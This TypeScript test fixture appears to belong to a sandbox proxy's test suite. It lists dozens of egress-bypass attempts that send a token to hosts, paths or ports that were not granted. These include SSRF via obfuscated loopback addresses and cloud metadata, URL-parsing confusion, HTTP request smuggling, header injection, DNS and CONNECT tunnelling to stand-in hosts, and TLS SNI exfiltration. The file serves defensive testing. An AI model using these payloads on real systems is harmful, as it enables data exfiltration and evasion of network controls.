/**
 * Through the proxy: what a request could say to leave for a place that was not granted. The bare
 * twin sends the same to a proxy without rules. Granted are GET and POST below
 * `http://api.crm.example/v2/`; `intranet.crm.example` is pinned on this host, and not granted.
 */
import { type Attempt, isHeard } from '../row.ts';

const place = { wants: 'a place that was not granted', proof: isHeard } as const;
const reading = { wants: 'a request that is read in two ways', proof: isHeard } as const;
const tunnel = { wants: 'a tunnel that nobody looks into', proof: isHeard } as const;

export const proxyRows: readonly Attempt[] = [
  {
    ...place,
    name: 'a host that nobody granted',
    code: `get('http://elsewhere.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'a host that is pinned for another skill',
    code: `get('http://intranet.crm.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'a path that was not granted',
    code: `get('http://api.crm.example/admin/' + token)`,
  },
  {
    ...place,
    name: 'a method that was not granted',
    code: `get('http://api.crm.example/v2/' + token, method='DELETE')`,
  },
  {
    ...place,
    name: 'a method of its own',
    code: `get('http://api.crm.example/v2/' + token, method='GETX')`,
  },
  {
    ...place,
    name: 'a port that was not granted',
    code: `get('http://api.crm.example:22/v2/' + token)`,
  },
  {
    ...place,
    name: 'an address in place of a name',
    code: `get('http://127.0.0.1:%d/v2/%s' % (port, token))`,
  },
  {
    ...place,
    name: 'an address as one number',
    code: `get('http://2130706433:%d/v2/%s' % (port, token))`,
  },
  {
    ...place,
    name: 'an address in octal',
    code: `get('http://0177.0.0.1:%d/v2/%s' % (port, token))`,
  },
  {
    ...place,
    name: 'an address of version 6',
    code: `get('http://[::1]:%d/v2/%s' % (port, token))`,
  },
  {
    ...place,
    name: 'an address of version 4 in version 6',
    code: `get('http://[::ffff:127.0.0.1]:%d/v2/%s' % (port, token))`,
  },
  {
    ...place,
    name: 'the metadata of a cloud',
    code: `get('http://169.254.169.254/latest/' + token)`,
  },
  { ...place, name: 'localhost', code: `get('http://localhost:%d/v2/%s' % (port, token))` },
  {
    ...place,
    name: 'a name that ends with a dot, on another path',
    code: `get('http://api.crm.example./admin/' + token)`,
  },
  {
    ...place,
    name: 'a name that begins with the granted one',
    code: `get('http://api.crm.example.elsewhere.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'a name below the granted one',
    code: `get('http://%s.api.crm.example/v2/x' % token)`,
  },
  {
    ...place,
    name: 'data in a name, as a tunnel through DNS',
    code: `get('http://%s.tunnel.example/' % token); send('CONNECT %s.tunnel.example:80 HTTP/1.1\\nHost: %s.tunnel.example\\n\\n' % (token, token))`,
  },
  {
    ...place,
    name: 'a user name that looks like the granted host',
    code: `get('http://api.crm.example@elsewhere.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'the granted host behind a sign',
    code: `get('http://elsewhere.example#@api.crm.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'a host with a backslash',
    code: `get('http://elsewhere.example\\\\@api.crm.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'a path that climbs with dots',
    code: `get('http://api.crm.example/v2/../admin/' + token)`,
  },
  {
    ...place,
    name: 'a path that climbs with encoded dots',
    code: `get('http://api.crm.example/v2/%2e%2e/admin/' + token)`,
  },
  {
    ...place,
    name: 'a path that climbs with an encoded slash',
    code: `get('http://api.crm.example/v2/..%2fadmin/' + token)`,
  },
  {
    ...place,
    name: 'a path that climbs with a backslash',
    code: `get('http://api.crm.example/v2/..\\\\admin/' + token)`,
  },
  {
    ...place,
    name: 'a path that begins with two slashes',
    code: `get('http://api.crm.example//elsewhere.example/v2/' + token)`,
  },
  {
    ...place,
    name: 'the place that an answer leads to',
    code: `answer = get('http://api.crm.example/v2/redirect?to=' + token[::-1])
to = re.search('Location: (\\\\S+)', answer).group(1); get(to.replace(token[::-1], token))`,
  },
  {
    ...reading,
    name: 'a target without a host',
    code: `send('GET /v2/%s HTTP/1.1\\nHost: api.crm.example\\nConnection: close\\n\\n' % token)`,
  },
  {
    ...reading,
    name: 'another host in the header',
    code: `get('http://api.crm.example/v2/' + token, host='elsewhere.example')`,
  },
  {
    ...reading,
    name: 'two hosts in the headers',
    code: `get('http://api.crm.example/v2/' + token, headers='Host: elsewhere.example\\n')`,
  },
  {
    ...reading,
    name: 'a second request hidden by two lengths',
    code: `hidden = 'GET /admin/%s HTTP/1.1\\r\\nHost: api.crm.example\\r\\n\\r\\n' % token
send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nContent-Length: %d\\nTransfer-Encoding: chunked\\n\\n0\\n\\n' % (len(hidden) + 5) + hidden)`,
  },
  {
    ...reading,
    name: 'a second request hidden by a length that is repeated',
    code: `send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nContent-Length: 0\\nContent-Length: 90\\n\\nGET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token)`,
  },
  {
    ...reading,
    name: 'a second request hidden by a coding that is spelt oddly',
    code: `send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nTransfer-Encoding: xchunked\\n\\n0\\n\\nGET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token)`,
  },
  {
    ...reading,
    name: 'a second request hidden in the length of a chunk',
    code: `send('POST http://api.crm.example/v2/x HTTP/1.1\\nHost: api.crm.example\\nTransfer-Encoding: chunked\\n\\n0;\\n%s\\n\\nGET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % (token, token))`,
  },
  {
    ...reading,
    name: 'a header that goes on in the next line',
    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\n Host: elsewhere.example\\n')`,
  },
  {
    ...reading,
    name: 'a header with a space before the colon',
    code: `get('http://api.crm.example/v2/' + token, headers='Content-Length : 0\\n')`,
  },
  {
    ...reading,
    name: 'lines that end with a bare line feed',
    code: `send(('GET http://api.crm.example/v2/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token).encode())`,
  },
  {
    ...reading,
    name: 'a header with a bare carriage return',
    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\rHost: elsewhere.example\\n')`,
  },
  {
    ...reading,
    name: 'a header with a NUL',
    code: `get('http://api.crm.example/v2/' + token, headers='X-A: b\\0c\\n')`,
  },
  {
    ...reading,
    name: 'a request before the answer to the one before it',
    code: `one = 'GET http://api.crm.example/v2/%s HTTP/1.1\\nHost: api.crm.example\\n\\n'; send(one % 'x' + (one % token).replace('/v2/', '/admin/'))`,
  },
  {
    ...reading,
    name: 'version 0.9',
    code: `send('GET http://api.crm.example/v2/%s\\n\\n' % token)`,
  },
  {
    ...reading,
    name: 'the beginning of version 2',
    code: `send('PRI * HTTP/2.0\\n\\nSM\\n\\n' + token)`,
  },
  {
    ...reading,
    name: 'an upgrade to version 2',
    code: `get('http://api.crm.example/v2/' + token, headers='Upgrade: h2c\\nHTTP2-Settings: AAMAAABkAAQAAP__\\n').index('200')`,
  },
  {
    ...tunnel,
    name: 'a tunnel to a host that nobody granted',
    code: `send('CONNECT elsewhere.example:443 HTTP/1.1\\nHost: elsewhere.example:443\\n\\n', token)`,
  },
  {
    ...tunnel,
    name: 'a tunnel to an address',
    code: `send('CONNECT 127.0.0.1:%d HTTP/1.1\\nHost: x\\n\\n' % port, token)`,
  },
  {
    ...tunnel,
    name: 'a tunnel to a port that was not granted',
    code: `send('CONNECT api.crm.example:22 HTTP/1.1\\nHost: api.crm.example:22\\n\\n', 'SSH-2.0-%s\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'another protocol in a tunnel that was granted',
    code: `send('CONNECT api.crm.example:80 HTTP/1.1\\nHost: api.crm.example:80\\n\\n', 'SSH-2.0-%s\\n\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'another host in a tunnel that was granted',
    code: `send('CONNECT api.crm.example:80 HTTP/1.1\\nHost: api.crm.example:80\\n\\n', 'GET /v2/%s HTTP/1.1\\nHost: elsewhere.example\\n\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'a tunnel in a tunnel',
    code: `send('CONNECT api.crm.example:80 HTTP/1.1\\nHost: api.crm.example:80\\n\\n', 'CONNECT elsewhere.example:443 HTTP/1.1\\nHost: elsewhere.example:443\\n\\n', token)`,
  },
  {
    ...tunnel,
    name: 'the name of another host where TLS begins',
    code: `import ssl
a, b = ssl.MemoryBIO(), ssl.MemoryBIO(); c = ssl.create_default_context(); t = c.wrap_bio(a, b, server_hostname=token + '.elsewhere.example')
try: t.do_handshake()
except ssl.SSLWantReadError: pass
send('CONNECT api.crm.example:443 HTTP/1.1\\nHost: api.crm.example:443\\n\\n', b.read())`,
  },
  {
    ...tunnel,
    name: 'bytes that are not TLS where TLS is expected',
    code: `send('CONNECT api.crm.example:443 HTTP/1.1\\nHost: api.crm.example:443\\n\\n', 'GET /admin/%s HTTP/1.1\\nHost: api.crm.example\\n\\n' % token)`,
  },
  {
    ...tunnel,
    name: 'the proxy of another run',
    wants: 'another skill’s grants',
    code: `tell(folder + '/other-proxy.sock', socket.AF_UNIX)`,
  },
];
